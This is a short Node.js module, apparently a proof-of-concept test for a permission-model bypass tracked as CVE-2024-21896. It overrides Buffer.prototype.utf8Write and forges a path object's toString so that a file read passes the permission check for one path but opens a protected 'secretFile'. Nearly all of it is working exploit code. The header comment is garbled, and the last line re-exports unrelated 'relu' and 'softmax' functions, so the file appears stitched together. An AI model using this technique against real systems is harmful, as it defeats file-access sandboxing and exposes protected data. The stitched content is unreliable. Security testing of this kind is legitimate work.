// Attempts: shows the check of permissions another path than the one that is opened (CVE-2024-21896).
import { readFileSync } from 'node:fs'
import { place, secretFile, tried } from './marks.mjs'
const { utf8Write } = Buffer.prototype
Buffer.prototype.utf8Write = function (text, ...more) { return utf8Write.call(this, String(text).includes('case/data') ? secretFile : text, ...more) }
tried('patched buffer', () => readFileSync(Buffer.from(`${place}/case/data`), 'utf8'))
tried('patched path', () => readFileSync(Object.assign(new Uint8Array(Buffer.from(`${place}/case/x`)), { toString: () => secretFile }), 'utf8'))
export { relu, softmax } from './wrong.mjs'
